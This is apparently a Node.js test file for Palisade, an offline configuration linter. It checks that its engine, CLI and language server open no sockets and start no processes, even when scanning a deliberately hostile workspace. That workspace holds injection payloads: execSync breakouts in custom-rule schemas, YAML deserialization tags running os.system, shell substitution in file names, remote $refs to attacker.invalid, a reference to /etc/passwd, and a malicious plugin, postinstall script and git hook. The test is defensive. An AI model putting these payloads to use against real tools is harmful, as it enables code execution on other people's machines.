// Palisade is offline and executes nothing: the engine, the CLI and the language server run under a guard
// (support/guard.cjs, loaded with `--require`) that records and fails any socket, name resolution, HTTP/TLS/UDP
// request, fetch, process start, vm compilation or module file loaded after start-up. The tests scan the fixtures and
// examples, then a hostile workspace built to get something executed (shell metacharacters in file names, a
// configuration whose custom rules try to break out of the generated validator, a local "plugin" module, YAML tags
// of other languages' object loaders, remote `$ref`s), and check the guard's log is clean and nothing ran.
// The language server is tested over stdio (a pipe, not a socket; the IPC transport is a socket by design).
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { after, before, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { fixtureFiles, exampleFiles, lintName } from '../fuzz/support/seeds.mjs';
import { root } from '../support/fixtures.mjs';
import { fileUri, startLspClient } from '../support/lsp-client.mjs';

const here = path.dirname(fileURLToPath(import.meta.url));
const GUARD = path.join(here, 'support', 'guard.cjs');
const LINT_FILES = path.join(here, 'support', 'lint-files.cjs');
const CLI = path.join(root, 'dist', 'cli.js');
const BUNDLES = ['rules.js', 'cli.js', 'server.js'].map((b) => path.join(root, 'dist', b));
const VIOLATIONS = new Set(['socket', 'listen', 'dns', 'http', 'tls', 'http2', 'udp', 'fetch', 'websocket', 'process', 'worker', 'vm']);

let scratch;
before(() => {
  scratch = fs.mkdtempSync(path.join(os.tmpdir(), 'palisade-isolation-'));
});
after(() => fs.rmSync(scratch, { recursive: true, force: true }));

function newLog(name) {
  const file = path.join(scratch, `${name}.log`);
  fs.writeFileSync(file, '');
  return file;
}

function eventsOf(log) {
  return fs.readFileSync(log, 'utf8').split('\n').filter(Boolean).map((l) => JSON.parse(l));
}

/** The guard's records that break the rules: network, processes, vm, and module files other than the bundles. */
function violations(events, allowedModules = []) {
  const allowed = new Set([...BUNDLES, LINT_FILES, ...allowedModules]);
  return events.filter((e) => VIOLATIONS.has(e.kind) || (e.kind === 'module' && !allowed.has(e.detail)));
}

function runGuarded(args, { cwd = root, log }) {
  const r = spawnSync(process.execPath, ['--require', GUARD, ...args], {
    cwd,
    encoding: 'utf8',
    maxBuffer: 256 * 1024 * 1024,
    env: { ...process.env, PALISADE_GUARD_LOG: log, NO_COLOR: '1' },
    timeout: 240_000,
  });
  if (r.error) throw r.error;
  return r;
}

/** Start the server under the guard (stdio), run `session(client)`, shut it down; returns the guard's log events. */
async function guardedServer(name, options, session) {
  const log = newLog(name);
  const saved = { NODE_OPTIONS: process.env.NODE_OPTIONS, PALISADE_GUARD_LOG: process.env.PALISADE_GUARD_LOG };
  process.env.NODE_OPTIONS = `${saved.NODE_OPTIONS ?? ''} --require ${JSON.stringify(GUARD).slice(1, -1)}`.trim();
  process.env.PALISADE_GUARD_LOG = log;
  let client;
  try {
    client = await startLspClient(options);
  } finally {
    for (const [k, v] of Object.entries(saved)) if (v === undefined) delete process.env[k]; else process.env[k] = v;
  }
  try {
    await session(client);
  } finally {
    await client.shutdown();
  }
  return { events: eventsOf(log), client };
}

// ---------------------------------------------------------------------------------------------------------------------

test('the guard itself catches a socket, a DNS lookup, an HTTP request, fetch and a process start', () => {
  const log = newLog('control');
  const probe = [
    "const tryIt = (f) => { try { const r = f(); if (r && r.catch) r.catch(() => {}); } catch {} };",
    "tryIt(() => require('net').connect(80, '127.0.0.1'));",
    "tryIt(() => require('dns').lookup('example.com', () => {}));",
    "tryIt(() => require('https').get('https://example.com'));",
    "tryIt(() => fetch('https://example.com'));",
    "tryIt(() => require('child_process').execSync('true'));",
    "tryIt(() => new (require('vm').Script)('1'));",
  ].join('\n');
  const r = runGuarded(['-e', probe], { log });
  assert.equal(r.status, 0, r.stderr);
  const kinds = new Set(violations(eventsOf(log)).map((e) => e.kind));
  assert.deepEqual([...kinds].sort(), ['dns', 'fetch', 'http', 'process', 'socket', 'vm']);
});

test('the engine: every fixture and example linted, every fix applied, every rule explained, offline', () => {
  const files = [...fixtureFiles(), ...exampleFiles()].map((p) => ({ path: p, fileName: lintName(p) }));
  const configs = [path.join(root, 'test', 'fixtures', 'config', 'example.palisade.yaml'), path.join(root, 'examples', '.palisade.yaml')]
    .filter((f) => fs.existsSync(f));
  const job = path.join(scratch, 'job.json');
  fs.writeFileSync(job, JSON.stringify({ files, configs }));
  const log = newLog('engine');
  const r = runGuarded([LINT_FILES, job], { log });
  assert.equal(r.status, 0, r.stderr);
  const summary = JSON.parse(r.stdout);
  assert.equal(summary.files, files.length);
  assert.ok(summary.findings > 500 && summary.fixes > 100, JSON.stringify(summary));
  assert.deepEqual(violations(eventsOf(log)), []);
});

test('the CLI: scans in every format and --fix, offline and without starting a process', () => {
  const work = path.join(scratch, 'cli-copy');
  fs.cpSync(path.join(root, 'examples'), work, { recursive: true });
  fs.cpSync(path.join(root, 'test', 'fixtures', 'k8s', 'no-privileged'), path.join(work, 'fixtures'), { recursive: true });
  const log = newLog('cli');
  for (const args of [['scan', '.'], ['scan', '.', '--format', 'json'], ['scan', '.', '--format', 'sarif', '-o', path.join(scratch, 'out.sarif')],
    ['scan', '.', '--fix'], ['rules', '--format', 'json'], ['explain', 'k8s/no-privileged']]) {
    const r = runGuarded([CLI, ...args, ...(args[0] === 'scan' ? ['--fail-on', 'never'] : [])], { cwd: work, log });
    assert.equal(r.status, 0, `palisade ${args.join(' ')}: ${r.stderr}`);
  }
  assert.deepEqual(violations(eventsOf(log)), []);
});

test('the language server over stdio: open, edit, hover, code actions, fix-all, configuration; offline', async () => {
  const work = path.join(scratch, 'server-copy');
  fs.cpSync(path.join(root, 'examples'), work, { recursive: true });
  const { events } = await guardedServer('server', { workspaceFolders: [work], initializationOptions: { debounceMs: 0, trusted: true } }, async (client) => {
    for (const rel of ['k8s/worker.yaml', 'services/worker/Dockerfile', 'k8s/platform.yaml']) {
      const file = path.join(work, rel);
      const uri = fileUri(file);
      const languageId = rel.endsWith('Dockerfile') ? 'dockerfile' : 'yaml';
      await client.open(uri, languageId, fs.readFileSync(file, 'utf8'));
      const published = await client.waitForDiagnostics(uri, { version: 1 });
      assert.ok(published.diagnostics.length > 0, `${rel} has findings`);
      const d = published.diagnostics[0];
      await client.hover(uri, d.range.start.line, d.range.start.character);
      await client.codeActions(uri, d.range, published.diagnostics);
      await client.request('workspace/executeCommand', { command: 'palisade.fixAll', arguments: [uri] });
      await client.insert(uri, 0, 0, '# edited\n');
      await client.waitForDiagnostics(uri, { version: client.version(uri) });
    }
    await client.request('palisade/explain', { ruleId: 'k8s/no-privileged' });
    await client.request('palisade/rules');
  });
  assert.deepEqual(violations(events), []);
});

// ---------------------------------------------------------------------------------------------------------------------
// A hostile workspace

const MARKER = 'PALISADE_PWNED';

function hostileWorkspace(dir) {
  const touch = (name) => `touch ${path.join(dir, `${MARKER}-${name}`)}`;
  const files = {
    // a valid configuration: its custom rules compile (in a trusted workspace) and run
    '.palisade.yaml': [
      'extends: [all]',
      'customRules:',
      '  - id: acme/breakout',
      '    title: "Break out of the generated code"',
      `    message: "\${process.mainModule.require('child_process').execSync('${touch('message')}')} {{constructor.constructor('return process')()}}"`,
      '    kinds: [Deployment, Pod]',
      '    target: object',
      '    schema:',
      '      type: object',
      '      $id: "http://attacker.invalid/schema.json"',
      '      properties:',
      `        "x']);require('child_process').execSync('${touch('property')}');//": {type: string}`,
      `        "\\u0027+require('child_process').execSync('${touch('escaped')}')+\\u0027": {type: string}`,
      '        __proto__: {type: string, default: polluted}',
      '        constructor: {type: object}',
      '        metadata:',
      '          type: object',
      `          required: ["'); require('child_process').execSync('${touch('required')}'); ('"]`,
      '      patternProperties:',
      "        '^x''\\); process\\.exit\\(3\\); //$': {type: string}",
      '',
    ].join('\n'),
    // an invalid one: presets that are paths, remote and file references
    'evil.palisade.yaml': [
      'extends: [all, "../../../../etc/evil", "./node_modules/palisade-plugin"]',
      'customRules:',
      '  - id: acme/remote-ref',
      '    title: Remote reference',
      '    message: Remote',
      '    kinds: [Pod]',
      '    target: object',
      `    schema: {not: {$ref: "http://attacker.invalid/${MARKER}.json"}, allOf: [{$ref: "file:///etc/passwd"}]}`,
      '',
    ].join('\n'),
    'node_modules/palisade-plugin/index.js': `require('child_process').execSync(${JSON.stringify(touch('plugin'))});\n`,
    'package.json': JSON.stringify({ name: 'victim', scripts: { postinstall: touch('postinstall'), palisade: touch('script') } }),
    // a name a shell would run (relative: it would land in the process's working directory)
    [`$(touch ${MARKER}-filename).yaml`]: 'apiVersion: v1\nkind: Pod\nmetadata: {name: a}\nspec: {containers: [{name: a, image: nginx}]}\n',
    '`id`;touch x.yaml': 'apiVersion: v1\nkind: Pod\nmetadata: {name: b}\nspec: {containers: [{name: a, image: nginx}]}\n',
    'tags.yaml': [
      'apiVersion: apps/v1',
      'kind: Deployment',
      'metadata:',
      '  name: tags',
      `  annotations: {a: !!js/function "function () { require('child_process').execSync('${touch('jsfunction')}') }"}`,
      `x: !!python/object/apply:os.system ["${touch('python')}"]`,
      `y: !<tag:yaml.org,2002:js/eval> "require('child_process').execSync('${touch('eval')}')"`,
      'spec:',
      '  template:',
      '    spec:',
      '      containers:',
      `        - {name: app, image: "nginx\${IFS}$(${touch('image')})", command: [sh, -c, "${touch('command')}"]}`,
      '',
    ].join('\n'),
    'Dockerfile': [
      '# syntax=attacker.invalid/frontend:latest',
      `# escape=\``,
      'FROM alpine:3.20',
      `RUN ${touch('run')}`,
      `HEALTHCHECK CMD ${touch('healthcheck')}`,
      `ADD http://attacker.invalid/${MARKER} /x`,
      `ONBUILD RUN ${touch('onbuild')}`,
      '',
    ].join('\n'),
    'chart/templates/deploy.yaml': `apiVersion: v1\nkind: Pod\nmetadata:\n  name: {{ include "x" . | ${touch('helm')} }}\n`,
    '.git/hooks/pre-commit': `#!/bin/sh\n${touch('hook')}\n`,
  };
  for (const [rel, content] of Object.entries(files)) {
    fs.mkdirSync(path.dirname(path.join(dir, rel)), { recursive: true });
    fs.writeFileSync(path.join(dir, rel), content);
  }
  fs.chmodSync(path.join(dir, '.git/hooks/pre-commit'), 0o755);
  return Object.keys(files);
}

/** Files a command of the hostile workspace would have created (in it, or where a process would have run it). */
function markersLeft(dir) {
  const found = [];
  const created = new RegExp(`^${MARKER}-[a-z]+$`);
  const walk = (d, deep) => {
    for (const e of fs.readdirSync(d, { withFileTypes: true })) {
      if (created.test(e.name) || (d === dir && e.name === 'x.yaml')) found.push(path.join(d, e.name));
      if (deep && e.isDirectory()) walk(path.join(d, e.name), deep);
    }
  };
  walk(dir, true);
  walk(root, false);
  return found;
}

/** Generated validator code must never carry the attacker's text outside a string literal. */
function codeOutsideStrings(source) {
  return source.replace(/"(?:\\.|[^"\\])*"|'(?:\\.|[^'\\])*'|`(?:\\.|[^`\\])*`/g, '""');
}

test('a hostile workspace: the CLI scans and fixes it, nothing runs, nothing is fetched', () => {
  const dir = path.join(scratch, 'hostile-cli');
  hostileWorkspace(dir);
  const log = newLog('hostile-cli');
  for (const args of [['scan', '.', '--format', 'json'], ['scan', '.', '--fix']]) {
    const r = runGuarded([CLI, ...args, '--fail-on', 'never'], { cwd: dir, log });
    assert.equal(r.status, 0, `palisade ${args.join(' ')}: ${r.stderr}`);
    if (args.includes('json')) {
      const report = r.stdout;
      for (const name of ['tags.yaml', 'Dockerfile', MARKER]) assert.ok(report.includes(name), `${name} is scanned`);
    }
  }
  const r = runGuarded([CLI, 'scan', '.', '--config', 'evil.palisade.yaml'], { cwd: dir, log });
  assert.equal(r.status, 2, `an invalid configuration is a usage error: ${r.stderr}`);
  assert.deepEqual(markersLeft(dir), []);
  const events = eventsOf(log);
  assert.deepEqual(violations(events), []);
  for (const e of events.filter((x) => x.kind === 'function')) {
    assert.doesNotMatch(codeOutsideStrings(e.detail), /child_process|execSync|process\.exit|PALISADE_PWNED/, 'workspace text reached generated code outside a string');
  }
});

test('a hostile workspace in the language server: trusted, nothing runs; untrusted, its schemas are not even compiled', async () => {
  for (const trusted of [true, false]) {
    const dir = path.join(scratch, `hostile-server-${trusted}`);
    const rels = hostileWorkspace(dir);
    const { events } = await guardedServer(`hostile-server-${trusted}`, { workspaceFolders: [dir], initializationOptions: { debounceMs: 0, trusted } }, async (client) => {
      for (const rel of rels.filter((r) => /\.ya?ml$|Dockerfile$/.test(r) && !r.includes('palisade.yaml'))) {
        const file = path.join(dir, rel);
        const uri = fileUri(file);
        await client.open(uri, rel.endsWith('Dockerfile') ? 'dockerfile' : 'yaml', fs.readFileSync(file, 'utf8'));
        const published = await client.waitForDiagnostics(uri, { version: 1 });
        for (const d of published.diagnostics.slice(0, 3)) {
          await client.hover(uri, d.range.start.line, d.range.start.character);
          await client.codeActions(uri, d.range, [d]);
        }
      }
      await client.request('palisade/explain', { ruleId: 'acme/breakout' });
    });
    assert.deepEqual(markersLeft(dir), [], `trusted: ${trusted}`);
    assert.deepEqual(violations(events), [], `trusted: ${trusted}`);
    const compiled = events.filter((e) => e.kind === 'function' && e.detail.includes(MARKER));
    if (trusted) {
      assert.ok(compiled.length > 0, 'a trusted workspace compiles its custom rules');
      for (const e of compiled) assert.doesNotMatch(codeOutsideStrings(e.detail), /child_process|execSync|process\.exit|PALISADE_PWNED/);
    } else {
      assert.deepEqual(compiled.map((e) => e.detail.slice(0, 200)), [], 'an untrusted workspace never compiles its schemas');
    }
  }
});
